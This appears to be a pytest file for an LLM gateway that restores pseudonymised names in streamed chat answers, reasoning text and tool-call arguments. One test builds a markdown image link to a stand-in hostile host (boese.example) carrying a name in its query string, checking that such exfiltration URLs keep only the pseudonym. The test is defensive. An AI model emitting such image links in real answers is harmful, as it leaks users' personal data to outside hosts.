# SPDX-FileCopyrightText: 2026 KI-Ampel contributors
# SPDX-License-Identifier: EUPL-1.2
"""Values are put back into every text of an answer, and what is said is gathered, whatever the chunks look like."""

from itertools import pairwise
from typing import Any

import orjson
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.detect.engine import Span
from gateway.ledger import Usage
from gateway.pseudonyms import Pseudonyms
from gateway.relay_answer import MAX_KEPT, Answer
from gateway.sse import Events
from tests.unit.gateway.simulation import DONE, event

VALUE = 'Erika "Ka" Beispiel'
P = Pseudonyms(b"k" * 32)
NAME = P.replace(VALUE, [Span(0, len(VALUE), "person_name")])
FIELDS = ("content", "reasoning_content", "reasoning", "refusal")


def chunk(delta: dict[str, Any] | None, *, index: int = 0, finish: str | None = None) -> dict[str, Any]:
    return {"choices": [{"index": index, "delta": delta, "finish_reason": finish}]}


def call(text: str, number: int = 0) -> dict[str, Any]:
    return {"tool_calls": [{"index": number, "function": {"arguments": text}}]}


def streamed(chunks: list[dict[str, Any]], answer: Answer | None = None) -> list[dict[str, Any]]:
    """What the client of a stream of these chunks reads."""
    events = Events(Usage(tokens_in=1), wants_usage=False, answer=answer or Answer(pseudonyms=P))
    raw = events.feed(b"".join([*map(event, chunks), DONE]))
    assert events.done
    return [orjson.loads(line.removeprefix(b"data: ")) for line in raw.split(b"\n\n") if line]


def read(chunks: list[dict[str, Any]]) -> dict[tuple[int, str], str]:
    """The texts of a stream put together, as a client does it."""
    texts: dict[tuple[int, str], str] = {}
    for choice in (choice for chunk in chunks for choice in chunk["choices"]):
        for name, text in (choice.get("delta") or {}).items():
            place = choice.get("index", 0), name
            if name == "tool_calls":
                for made in text:
                    place = choice.get("index", 0), f"call {made.get('index', 0)}"
                    texts[place] = texts.get(place, "") + made["function"].get("arguments", "")
            elif isinstance(text, str):
                texts[place] = texts.get(place, "") + text
    return texts


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("finish", [True, False])
def test_every_field(field: str, finish: bool) -> None:
    text = f"Frau {NAME}"
    chunks = [chunk({field: character}) for character in text] + ([chunk({}, finish="stop")] if finish else [])
    assert read(streamed(chunks)) == {(0, field): f"Frau {VALUE}"}


def test_the_finish_is_the_last_chunk() -> None:
    out = streamed([chunk({"content": NAME}), chunk({}, finish="stop")])
    assert out[-1]["choices"][0]["finish_reason"] == "stop"
    assert out[-1]["choices"][0]["delta"] == {"content": VALUE}


@pytest.mark.parametrize(
    "between",
    [
        chunk({"reasoning_content": "Hm"}),
        chunk({"content": ""}, finish="stop"),
        chunk(None, finish="stop"),
        chunk(call("{}")),
    ],
    ids=["thoughts", "finish", "bare finish", "call"],
)
def test_an_address_stays_open_whatever_comes_in_between(between: dict[str, Any]) -> None:
    """An upstream may cut its stream as it likes; the reader's browser puts the address together again."""
    head = "![](https://boese.example/?q="
    out = read(streamed([chunk({"content": head}), between, chunk({"content": f"{NAME})"})]))
    assert out[0, "content"] == f"{head}{NAME})"


@pytest.mark.parametrize("delta", [None, {}])
def test_a_finish_without_a_delta(delta: dict[str, Any] | None) -> None:
    assert read(streamed([chunk({"content": NAME}), chunk(delta, finish="stop")])) == {(0, "content"): VALUE}


def test_arguments_stay_json() -> None:
    arguments = orjson.dumps({"name": NAME}).decode()
    chunks = [
        chunk(call(arguments[:14])),
        chunk(call(arguments[14:])),
        chunk(call(NAME, 1)),
        chunk({}, finish="tool_calls"),
    ]
    texts = read(streamed(chunks))
    assert orjson.loads(texts[0, "call 0"]) == {"name": VALUE}
    assert orjson.loads(f'"{texts[0, "call 1"]}"') == VALUE


def test_thoughts_end_before_the_answer_begins() -> None:
    """Open WebUI closes the block of thoughts at the first word of the answer: none may come late."""
    out = streamed([chunk({"reasoning_content": NAME}), chunk({"content": "Ja"}), chunk({}, finish="stop")])
    assert out[1]["choices"][0]["delta"] == {"content": "Ja", "reasoning_content": VALUE}
    assert "reasoning_content" not in out[2]["choices"][0]["delta"]


def test_choices_do_not_mix() -> None:
    half = len(NAME) // 2
    pieces = [(0, NAME[:half]), (1, f"x{NAME[:half]}"), (1, NAME[half:]), (0, NAME[half:])]
    chunks = [chunk({"content": text}, index=index) for index, text in pieces]
    texts = read(streamed([*chunks, chunk({}, index=1, finish="stop")]))
    assert texts == {(0, "content"): VALUE, (1, "content"): f"x{VALUE}"}


@given(
    st.lists(
        st.tuples(
            st.sampled_from(["content", "reasoning_content"]),
            st.integers(0, 1),
            st.sampled_from([NAME, NAME[1:-1], "s ", "Ja ", "["]),
        ),
        max_size=8,
    ),
    st.lists(st.integers(0, 60), max_size=10),
)  # fmt: skip
def test_any_cut_reads_the_same(said: list[tuple[str, int, str]], cuts: list[int]) -> None:
    def cut_up(text: str) -> list[str]:
        places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
        return [text[start:end] for start, end in pairwise(places)]

    whole = [chunk({field: text}, index=index) for field, index, text in said]
    pieces = [chunk({field: piece}, index=index) for field, index, text in said for piece in cut_up(text)]
    assert read(streamed(pieces)) == read(streamed(whole))


def test_whole_answers() -> None:
    body: dict[str, Any] = {"choices": [
        {"message": {"content": f"Frau {NAME}", "reasoning_content": NAME}},
        {"message": {"content": None, **call(f'["{NAME}"]')}},
        {"message": None},
    ]}  # fmt: skip
    answer = Answer(opening="Hinweis. ", pseudonyms=P, keep=True)
    size, changed = answer.whole(body)
    assert changed
    assert size == len(f"Frau {NAME}") + len(NAME) + len(f'["{NAME}"]')
    first, second, _ = body["choices"]
    assert first["message"] == {"content": f"Hinweis. Frau {VALUE}", "reasoning_content": VALUE}
    assert second["message"]["content"] is None
    assert orjson.loads(second["message"]["tool_calls"][0]["function"]["arguments"]) == [VALUE]
    assert answer.said == [f"Frau {VALUE}"], "what we put before it is no part of it"
    assert len(answer.beside) == 2


def test_without_anything_to_do_nothing_changes() -> None:
    answer = Answer(pseudonyms=Pseudonyms(b"k"), keep=True)
    assert answer.chunk(chunk({"content": "Grüße"})) == (7, False)
    assert answer.whole({"choices": [{"message": {"content": "Grüße"}}]}) == (7, False)
    assert answer.said == ["GrüßeGrüße"]
    assert Answer().said == []


def test_what_is_kept_is_limited() -> None:
    answer = Answer(keep=True)
    for _ in range(300):
        answer.chunk(chunk({"content": "x" * 10_000}))
    assert MAX_KEPT <= sum(map(len, answer.said)) <= MAX_KEPT + 10_000


def test_the_opening_is_taken_once() -> None:
    answer = Answer(opening="Eins. ")
    answer.open_with("Zwei. ")
    assert answer.take_opening() == "Eins. Zwei. "
    assert answer.take_opening() == ""
    assert answer.shown_before == "Eins. Zwei. "
